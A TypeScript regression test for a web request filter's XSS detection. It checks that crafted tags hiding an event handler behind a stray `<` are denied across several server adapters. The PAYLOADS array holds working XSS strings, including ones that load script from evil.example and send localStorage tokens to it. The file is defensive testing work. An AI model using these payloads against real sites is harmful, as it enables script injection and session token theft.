/**
 * Ported from the payload review (review-payload2-xss-tag-scan). Before the fix, the tag scanner ended a tag at the next `<` anywhere (scanTag's `end`), and scans at most 64 `<`. A `<` that
 * starts no tag (`<3`, `<`, `< `) inside an earlier quoted attribute value hides every later attribute of the tag, and
 * 64 leading `<` hide the whole tag. The fallback (BREAKOUT_HANDLER) then misses a handler whose quoted value starts
 * with white space (`onerror=" location=name"`), and JS_SINK misses sinks outside its short list.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createShield } from '../../../src/shield.js';
import { ADAPTERS, type RunningApp } from '../../helpers/adapters.js';
import { rawRequest } from '../../helpers/raw-http.js';
import { checkBody, verdicts } from './review-helpers.js';

const PAYLOADS = [
  `<img alt="<3" src=x onerror=" location=name">`,
  `<img title="<" src=x onerror=" import('//evil.example/x.js')">`,
  `<img alt="<3" src=x onerror=" this.src='//evil.example/?'+localStorage.token">`,
  `<a title="a < b" href=# onclick=" location=name">x</a>`,
  '<'.repeat(64) + `<img src=x onerror=" import('//evil.example/x.js')">`,
];

describe('XSS tag scan cut short by a `<` that starts no tag', () => {
  it('check() denies the payloads as it denies the same tags without the stray `<`', async () => {
    // Control: the same handler without the `<` in the earlier attribute is denied (xss-event-handler).
    expect((await checkBody({ comment: `<img src=x onerror=" location=name">` })).allowed).toBe(false);
    expect(await verdicts('comment', PAYLOADS)).toEqual(PAYLOADS.map((p) => [p, false]));
  });

  it('stray `<` in prose and quoted values that run nothing still pass', async () => {
    const benign = ['I <3 this app', 'a < b and c > d', '<b title="a < b">bold</b>', '<a href="/help">help</a> <<< arrows', '<'.repeat(80) + ' ok'];
    expect(await verdicts('comment', benign)).toEqual(benign.map((p) => [p, true]));
  });

  describe('over HTTP', () => {
    const apps: { name: string; app: RunningApp }[] = [];
    beforeAll(async () => {
      const shield = createShield({ payload: {} });
      for (const a of ADAPTERS.filter((x) => ['express5', 'koa3', 'fastify5'].includes(x.name))) {
        apps.push({ name: a.name, app: await a.start(shield, [{ method: 'POST', path: '/api/comments' }, { method: 'GET', path: '/api/comments' }]) });
      }
    });
    afterAll(async () => {
      for (const { app } of apps) await app.close();
    });
    it('every adapter answers 403 for the payload in a JSON body and in the query', async () => {
      const payload = PAYLOADS[0]!;
      const got: string[] = [];
      for (const { name, app } of apps) {
        const port = Number(new URL(app.url).port);
        const body = await rawRequest(port, 'POST', '/api/comments', { 'content-type': 'application/json', 'user-agent': 'okhttp/4.12.0' }, JSON.stringify({ comment: payload }));
        const query = await rawRequest(port, 'GET', `/api/comments?comment=${encodeURIComponent(payload)}`, { 'user-agent': 'okhttp/4.12.0' });
        got.push(`${name} body ${body.status} query ${query.status}`);
      }
      expect(got).toEqual(apps.map(({ name }) => `${name} body 403 query 403`));
    });
  });
});
